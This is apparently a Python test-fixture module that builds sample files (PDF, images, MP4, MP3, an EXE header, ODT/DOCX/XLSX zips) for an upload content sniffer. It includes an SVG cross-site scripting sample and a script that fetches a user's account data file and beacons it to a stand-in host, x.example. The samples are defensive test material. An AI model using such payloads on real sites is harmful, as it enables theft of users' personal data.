"""Small files of each kind, real enough for the content sniffer (magic bytes, office parts)."""

import io
import zipfile

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def _image(format_: str) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (8, 4), (200, 30, 30)).save(buffer, format=format_)
    return buffer.getvalue()


PNG = _image("PNG")
JPEG = _image("JPEG")
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64
MP3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\x00" * 64
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/mon-compte/mes-donnees.json\')">'
    b"<script>alert(1)</script></svg>"
)
SCRIPT = b"fetch('/mon-compte/mes-donnees.json').then(r => r.text()).then(t => navigator.sendBeacon('//x.example', t));"


def html_calling(script_url: str) -> bytes:
    return f'<!DOCTYPE html><html><body><script src="{script_url}"></script></body></html>'.encode()


def _zip(members: list[tuple[str, bytes, int]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data, compression in members:
            # A fixed date: the same sample is byte for byte the same file.
            archive.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data, compress_type=compression)
    return buffer.getvalue()


def odt() -> bytes:
    return _zip(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED),
            ("content.xml", b"<office:document-content/>", zipfile.ZIP_DEFLATED),
            ("META-INF/manifest.xml", b"<manifest:manifest/>", zipfile.ZIP_DEFLATED),
        ]
    )


def docx() -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", b"<Types/>", zipfile.ZIP_DEFLATED),
            ("_rels/.rels", b"<Relationships/>", zipfile.ZIP_DEFLATED),
            ("word/document.xml", b"<w:document/>", zipfile.ZIP_DEFLATED),
        ]
    )


def xlsx() -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", b"<Types/>", zipfile.ZIP_DEFLATED),
            ("_rels/.rels", b"<Relationships/>", zipfile.ZIP_DEFLATED),
            ("xl/workbook.xml", b"<workbook/>", zipfile.ZIP_DEFLATED),
        ]
    )


# One accepted sample per type, for checks that walk every policy.
SAMPLES = {
    "application/pdf": PDF,
    "image/png": PNG,
    "image/jpeg": JPEG,
    "video/mp4": MP4,
    "audio/mpeg": MP3,
    "application/vnd.oasis.opendocument.text": odt(),
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document": docx(),
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": xlsx(),
}
